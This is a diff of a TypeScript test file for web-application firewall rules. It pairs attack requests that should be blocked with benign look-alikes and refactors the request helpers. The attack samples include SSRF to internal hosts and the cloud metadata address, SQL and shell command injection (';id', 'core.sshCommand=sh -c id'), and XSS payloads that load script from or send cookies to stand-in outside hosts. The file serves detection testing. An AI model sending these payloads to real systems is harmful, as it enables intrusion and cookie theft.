@@ -10,12 +10,10 @@
  */
 import { describe } from 'vitest';
 import type { RequestSpec } from './fixtures.js';
-import { BROWSER, form, FORM_HEADERS, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
+import { BROWSER, form, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm } from './bundled-requests.js';
 
 const { hits, rules } = useBundledRuleSet();
 
-const get = (url: string): RequestSpec => ({ url, headers: BROWSER });
-const post = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: FORM_HEADERS, body });
 const upload = (name: string, content: string, url = '/upload.php'): RequestSpec => {
   const b = '----WebKitFormBoundaryH7k2Lm9Qx4Zt1Wc8';
   const body = `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${b}\r\nContent-Disposition: form-data; name="dir"\r\n\r\nfile\r\n--${b}--\r\n`;
@@ -36,12 +34,12 @@ const CASES: RuleCase[] = [
   // Rev 2: a bare private or loopback origin alone is what legitimate clients send too (an OAuth native app's loopback
   // redirect, a device's address, a dev origin); rev 1 blocked these.
   // rev 4: Elasticsearch, Consul, etcd and CouchDB are HTTP services dashboards are pointed at by URL (a Grafana data source).
-  [9000566, 'block', 'a webhook form field at an internal memcached', post('/settings', 'webhook=http%3A%2F%2F10.0.4.22%3A11211%2F&save=1'), post('/realms/main/protocol/openid-connect/token', 'grant_type=authorization_code&code=4%2F0AX4&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&client_id=cli')],
+  [9000566, 'block', 'a webhook form field at an internal memcached', postForm('/settings', 'webhook=http%3A%2F%2F10.0.4.22%3A11211%2F&save=1'), postForm('/realms/main/protocol/openid-connect/token', 'grant_type=authorization_code&code=4%2F0AX4&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&client_id=cli')],
   [9000566, 'block', 'a JSON source at an internal Docker API', json('{"source":"http://10.0.4.22:2375"}'), json('{"name":"ES","type":"elasticsearch","url":"http://10.0.4.22:9200","access":"proxy"}')],
   [9000566, 'block', 'a JSON value at an internal MongoDB', json('{"source":"http://172.17.0.2:27017"}'), json('{"name":"Living room","host":"http://192.168.1.50","allowed_origins":"http://127.0.0.1:5173"}')],
   [9000167, 'block', 'a replacement opening with OR true; DROP TABLE', json('{"firstName":"OR true; DROP TABLE users;","lastName":":firstName"}'), json('{"q":"or true love; a song","bio":"and 1 more; thanks"}')],
   [9000366, 'block', 'an NTP server with ;id appended', get('/camera-cgi/admin/param.cgi?action=update&root.Time.NTP.Server=pool.ntp.org;id&root.Time.NTP.Enable=1'), get('/settings?servers=pool.ntp.org;time.example.org&mode=id')],
-  [9000365, 'block', 'a git grep search opening with -O and a command', post('/website/tree/main/search', 'query=-Oecho+95hj9sna'), post('/website/tree/main/search', 'query=-O2+optimization+flags')],
+  [9000365, 'block', 'a git grep search opening with -O and a command', postForm('/website/tree/main/search', 'query=-Oecho+95hj9sna'), postForm('/website/tree/main/search', 'query=-O2+optimization+flags')],
   [9000261, 'block', 'a marquee onstart importing a module', form('display_name=TS90AA&bio=Hi%2C+I+am+WyhP8+%3Cmarquee+onstart%3Dimport(%27http%3A%2F%2Fsync.example.ru%2F4ovmpg.js%27)%3EXAEa%3C%2Fmarquee%3E&save=1'), json('{"snippet":"<script type=\\"module\\">import(\'./app.js\')</script> and <button onclick=\\"save()\\">"}')],
   [9000260, 'suspicious', 'an uploaded .html running script', upload('CYJU.html', '<html><body><script>alert(document.domain)</script></body></html>', '/editor/kindeditor/jsp/upload_json.jsp?dir=file'), upload('readme.html', '<html><body><h1>Read me</h1><p>See <a href="/docs">the docs</a>.</p></body></html>')],
   [9000260, 'suspicious', 'an uploaded .html with an onload handler', upload('a.html', '<html><body onload="document.location=\'https://x.example.net/?c=\'+document.cookie"></body></html>'), upload('chart.html', '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>\n<canvas id="sales" width="400" height="200"></canvas>')],
@@ -55,8 +53,8 @@ const CASES: RuleCase[] = [
   [9001378, 'block', 'a vSAN proxy call to setTargetMethod', { method: 'POST', url: '/ui/h5-vsan/rest/proxy/service/&vsanProviderUtils_setVmodlHelper/setTargetMethod', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"methodInput":["exec"]}' }, get('/api/beans/vsanProviderUtils/getTargetMethod?x=setTargetMethod')],
   [9000567, 'block', 'a CI lint include: remote of an IP literal', json('{"include_merged_yaml":true,"content":"include:\\n  remote: https://106.92.236.191:443/eypkva.yml"}'), json('{"include_merged_yaml":true,"content":"include:\\n  remote: https://gitlab.com/group/templates/ci.yml"}')],
   [9000567, 'block', 'an OpenAPI $ref to the metadata address', json('{"openapi":"3.0.0","components":{"schemas":{"A":{"$ref":"http://169.254.169.254/latest/meta-data/"}}}}'), json('{"openapi":"3.0.0","components":{"schemas":{"A":{"$ref":"#/components/schemas/B","description":"see http://169.254.169.254/ docs"}}}}')],
-  [9000367, 'block', 'a ping address that is a line break and hostname', post('/cgi-bin/system_log.cgi', 'Command=Diagnostic&traceMode=ping&pingIpAddress=\nhostname&pingPktSize=56'), post('/contact', 'name=Ann&message=%0Aid+card+photo+attached&host=%0Ahostname.example.org')],
-  [9000368, 'block', 'a branch argument setting core.sshCommand', post('/api/repos/7/checkout', 'branch=-c+core.sshCommand%3Dsh+-c+id&remote=origin'), post('/api/notes', 'text=Set+core.sshCommand%3Dssh+-i+key+in+.git%2Fconfig&tag=-c')],
+  [9000367, 'block', 'a ping address that is a line break and hostname', postForm('/cgi-bin/system_log.cgi', 'Command=Diagnostic&traceMode=ping&pingIpAddress=\nhostname&pingPktSize=56'), postForm('/contact', 'name=Ann&message=%0Aid+card+photo+attached&host=%0Ahostname.example.org')],
+  [9000368, 'block', 'a branch argument setting core.sshCommand', postForm('/api/repos/7/checkout', 'branch=-c+core.sshCommand%3Dsh+-c+id&remote=origin'), postForm('/api/notes', 'text=Set+core.sshCommand%3Dssh+-i+key+in+.git%2Fconfig&tag=-c')],
   [9001562, 'block', 'a Jira action path with a bare ;', get('/InsightPluginShowGeneralConfiguration.jspa;'), get('/secure/Dashboard.jspa;jsessionid=8F3A2C1D9E7B6A5F4C3B2A1D0E9F8A7B?selectPageId=10000')],
   [9001561, 'block', 'GitHub plugin createTokenByPassword', get('/jenkins/descriptorByName/org.jenkinsci.plugins.github.config.GitHubTokenCredentialsCreator/createTokenByPassword?apiUrl=http%3A%2F%2F118.227.64.29%2Fdy6n9&login=a&password=b'), get('/jenkins/descriptorByName/hudson.plugins.git.UserRemoteConfig/checkUrl?value=https%3A%2F%2Fgithub.com%2Fx%2Fy.git')],
 ];
